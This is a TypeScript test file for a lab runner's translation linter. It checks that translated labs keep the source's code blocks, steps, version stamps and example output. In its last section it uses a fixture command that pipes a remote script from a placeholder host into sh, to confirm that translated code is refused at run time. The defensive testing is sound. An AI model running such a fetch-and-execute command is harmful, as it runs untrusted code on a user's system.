import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { isolab, ROOT } from './helpers/cli.js';
import { labsDir, translationOf } from './helpers/translate.js';
import { localize } from '../src/lab/localize.js';
import { parse, parseTranslated } from './helpers/lab.js';

const SOURCE_FILE = join(ROOT, 'test/fixtures/process-lab.md');
const source = readFileSync(SOURCE_FILE, 'utf8');
const es = translationOf(source, 'es');

async function lint(translation: string) {
  const dir = labsDir(SOURCE_FILE, { es: translation });
  const r = await isolab(['lint', dir]);
  return {
    ...r,
    lines: r.stdout
      .split('\n')
      .filter(Boolean)
      .map((l) => l.replace(`${dir}/`, '')),
  };
}

describe('translation lint keeps translations in step with the source', () => {
  it('a faithful translation is clean', async () => {
    const r = await lint(es);
    expect(r.exitCode).toBe(0);
    expect(r.stderr).toContain('2 files checked, 0 problems');
  });

  it('catches a code block that differs from the source, such as the en dash of "–issolation"', async () => {
    const bad = es.replace('ps -e -o pid,comm', 'ps -e \u2013o pid,comm');
    const r = await lint(bad);
    expect(r.exitCode).toBe(1);
    const line = bad.split('\n').findIndex((l) => l.includes('\u2013o pid'));
    expect(r.lines[0]).toMatch(
      new RegExp(
        `^es/process-lab\\.md:${line}: code differs from the source \\(.*process-lab\\.md:\\d+\\): source has "ps -e -o pid,comm", translation has "ps -e \u2013o pid,comm" \\(U\\+2013 is not an ASCII character\\)$`,
      ),
    );
  });

  it('catches a missing step and an extra step', async () => {
    const missing = es.replace(/## \[es\] Stop it[\s\S]*?(?=## \[es\] It is gone)/, '');
    expect((await lint(missing)).lines).toContainEqual(expect.stringMatching(/step "stop" of the source \(.*:\d+\) is missing/));
    const extra = `${es}\n## [es] Extra\n\n<!-- isolab step: extra -->\n`;
    expect((await lint(extra)).lines).toContainEqual(
      expect.stringMatching(/^es\/process-lab\.md:\d+: step "extra" is not in the source lab/),
    );
  });

  it('catches a translation made from an older version of the source, and one that does not say', async () => {
    const lab = parse(source);
    const hash = lab.steps[0]!.proseHash;
    const stale = es.replace(`from: ${hash}`, 'from: 0123456789ab');
    const r = await lint(stale);
    expect(r.lines).toContainEqual(
      expect.stringMatching(new RegExp(`step "start" was translated from an older source \\(from: 0123456789ab, source is now ${hash}\\)`)),
    );
    expect(r.stdout).toContain(`hint: update the translation to the source, then set from: ${hash}`);
    const unstamped = es.replace(`from: ${hash}\n`, '');
    expect((await lint(unstamped)).lines).toContainEqual(
      expect.stringMatching(/step "start" does not record which source version it translates/),
    );
  });

  it('a changed source makes its translation stale', async () => {
    const changedSource = source.replace('We start `sleep` in the background', 'We launch `sleep` in the background');
    const lab = parse(changedSource);
    const translation = parseTranslated(es, 'es.md');
    const text = localize(lab, translation);
    expect(text.steps.start!.state).toBe('stale');
    expect(text.steps.start!.prose).toContain('We launch');
    expect(text.steps.find!.state).toBe('translated');
    expect(text.steps.find!.title).toBe("[es] Find it in the host's process table");
  });

  it('a command-only change keeps the stamp: the translator copies the new block, and lint says where', async () => {
    const changed = source.replace('ps -e -o pid,comm\n```\n\n```text', 'ps -A -o pid,comm\n```\n\n```text');
    expect(changed).not.toBe(source);
    const before = parse(source).steps.find((s) => s.id === 'find')!;
    const after = parse(changed).steps.find((s) => s.id === 'find')!;
    // Saved progress sees the new command; the translation's stamp (its prose) does not move.
    expect(after.sourceHash).not.toBe(before.sourceHash);
    expect(after.proseHash).toBe(before.proseHash);
    const text = localize(parse(changed), parseTranslated(es, 'es.md'));
    expect(text.steps.find!.state).toBe('translated');
    const dir = labsDir(SOURCE_FILE, { es });
    const { writeFileSync } = await import('node:fs');
    writeFileSync(join(dir, 'process-lab.md'), changed);
    const r = await isolab(['lint', dir]);
    expect(r.stdout).toMatch(
      /es\/process-lab\.md:\d+: code differs from the source .*: source has "ps -A -o pid,com", translation has "ps -e -o pid,com"/,
    );
    expect(r.stdout).not.toContain('older source');
  });

  it('a change of prose, hints or verdicts makes the translation stale', () => {
    const find = (text: string) => parse(text).steps.find((s) => s.id === 'find')!.proseHash;
    const base = find(source);
    expect(find(source.replace("## Find it in the host's process table", '## Find it among the processes'))).not.toBe(base);
    expect(find(source.replace('it is an ordinary process of this host.', 'it is a process of this host.'))).not.toBe(base);
    const start = (text: string) => parse(text).steps.find((s) => s.id === 'start')!.proseHash;
    expect(start(source.replace('must not keep the step', 'may not keep the step'))).not.toBe(start(source));
  });

  it('the title, summary, recap and introduction carry a stamp of their own: a new sentence there makes them stale', async () => {
    const changed = source.replace(
      'This fixture lab uses nothing but POSIX tools',
      'This fixture lab, in sh and PowerShell, uses POSIX tools',
    );
    const hash = parse(changed).proseHash;
    expect(hash).not.toBe(parse(source).proseHash);
    const dir = labsDir(SOURCE_FILE, { es });
    const { writeFileSync } = await import('node:fs');
    writeFileSync(join(dir, 'process-lab.md'), changed);
    const r = await isolab(['lint', dir]);
    expect(r.stdout).toContain(
      `es/process-lab.md:1: the title, summary, recap and introduction were translated from an older source (from: ${parse(source).proseHash}, source is now ${hash})`,
    );
    const unstamped = es.replace(/^from: .*\n/m, '');
    expect((await lint(unstamped)).lines).toContain(
      'es/process-lab.md:1: the title, summary, recap and introduction do not record which source version they translate',
    );
  });

  it('the sources are named as the translation names them (the end screen cited "(blog post, Spanish)" in French)', () => {
    const withSources = es.replace(
      'title: "[es]',
      'sources:\n  - title: Fuente (entrada de blog, en español)\n    license: CC BY 4.0\ntitle: "[es]',
    );
    const text = localize(parse(source), parseTranslated(withSources, 'es.md'));
    expect(text.sources).toEqual([{ title: 'Fuente (entrada de blog, en español)', license: 'CC BY 4.0' }]);
    // A translation that names none keeps the source's.
    expect(localize(parse(source), parseTranslated(es, 'es.md')).sources).toEqual(parse(source).sources);
  });

  it('at run time a missing step falls back to the source text with a visible marker', async () => {
    const missing = es.replace(/## \[es\] Stop it[\s\S]*?(?=## \[es\] It is gone)/, '');
    const dir = labsDir(SOURCE_FILE, { es: missing });
    const r = await isolab(['run', join(dir, 'process-lab.md'), '--yes', '--lang', 'es']);
    expect(r.exitCode).toBe(0);
    expect(r.stdout).toContain("[es] Find it in the host's process table");
    expect(r.stdout).toMatch(/\] Stop it \[en\]/);
  });
});

describe('translation lint also compares example output', () => {
  it('reports an output block that drifted from the source', async () => {
    const drifted = es.replace('  41235 sleep', '  41235 sleeep');
    const dir = labsDir(SOURCE_FILE, { es: drifted });
    const r = await isolab(['lint', dir]);
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toMatch(/es\/process-lab\.md:\d+: example output differs from the source/);
  });
});

describe('at run time a translation never brings code of its own', () => {
  const curl = 'curl -s https://example.invalid/x.sh | sh';

  it("the body a learner reads shows the source's code blocks, {norun} ones included", () => {
    const translated = es.replace('ps -e -o pid,comm', curl);
    const text = localize(parse(source), parseTranslated(translated, 'es.md'));
    const shown = Object.values(text.steps).flatMap((s) =>
      s.body.filter((p) => p.kind === 'code').map((p) => (p as { code: string }).code),
    );
    expect(shown).toContain('ps -e -o pid,comm');
    expect(shown.join('\n')).not.toContain('curl');
  });

  it('a translation whose code differs is refused when the lab is loaded, with the lint message, and the run goes on in the source language', async () => {
    const translated = es.replace('ps -e -o pid,comm', curl);
    const dir = labsDir(SOURCE_FILE, { es: translated });
    const r = await isolab(['run', join(dir, 'process-lab.md'), '--yes', '--lang', 'es', '--quiet']);
    expect(r.stderr).toMatch(
      /aviso: .*es\/process-lab\.md:\d+: el código no coincide con el origen \(.*process-lab\.md:\d+\): el origen tiene "ps -e -o pid" y la traducción tiene "curl -s http"/,
    );
    expect(r.stdout).not.toContain('[es]');
    expect(r.stdout).not.toContain('curl');
    expect(r.exitCode).toBe(0);
  });
});
